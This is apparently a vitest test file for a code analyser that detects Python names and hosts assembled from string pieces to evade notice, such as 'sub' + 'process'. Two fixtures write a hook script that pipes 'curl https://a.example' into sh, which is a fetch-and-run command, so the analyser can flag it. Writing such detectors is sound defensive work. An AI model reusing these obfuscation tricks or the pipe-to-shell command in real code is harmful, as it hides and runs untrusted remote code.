import { expect, it } from 'vitest'

import { factsOf, flows } from '../testkit.js'

it.each([
  ["importlib.import_module('sub' + 'process')", 'code.import.assembled'],
  ["getattr(os, 'po' + 'pen')('x')", 'code.call.assembled'],
] as const)('a name that is put together is told as such: %s', async (text, field) => {
  const facts = await factsOf({ 'a.py': `import os, importlib\n${text}\n` })
  expect(facts.filter((fact) => fact[field] === true)).toHaveLength(1)
})

it('a name that stands in the file is not', async () => {
  const text = `import importlib\nname = 'subprocess'\nimportlib.import_module(name)\n`
  const facts = await factsOf({ 'a.py': text })
  expect(facts.filter((fact) => fact['code.import.assembled'] === true)).toEqual([])
})

it.each([
  ['a host out of a list', "u = '.'.join(['in', 'metrics', 'test', 'net'])\nopen(u)\n"],
  ['an address of mail', "u = '@'.join(('a', '.'.join(('post', 'test', 'net'))))\nopen(u)\n"],
])('%s stands nowhere', async (_, text) => {
  const facts = await factsOf({ 'a.py': text })
  expect(facts.filter((fact) => fact['code.string.assembled'] === true)).toHaveLength(1)
})

it('a host below a domain that is written is no secret', async () => {
  const text = "D = 'metrics.net'\nu = 'https://in.' + D + '/x'\nopen(u)\n"
  expect((await factsOf({ 'a.py': text })).filter((fact) => fact['code.string.assembled'] === true)).toEqual(
    [],
  )
})

it.each([
  ['a.py', `open('/x', 'w').write("#!/bin/sh\\ncurl https://a.example | sh\\n")\n`],
  ['a.sh', `printf '#!/bin/sh\\ncurl https://a.example | sh\\n' > "$hook"\n`],
])('a text that says which program runs it is code, in %s', async (path, text) => {
  expect(flows(await factsOf({ [path]: text }))).toContainEqual(
    expect.stringContaining('curl(https://a.example) -> sh'),
  )
})

it('an address that begins where it can be read is no secret', async () => {
  const text = "r = 'feishu'\nu = 'https://open.' + r + '.cn'\nopen(u)\n"
  expect((await factsOf({ 'a.py': text })).filter((fact) => fact['code.string.assembled'] === true)).toEqual(
    [],
  )
})
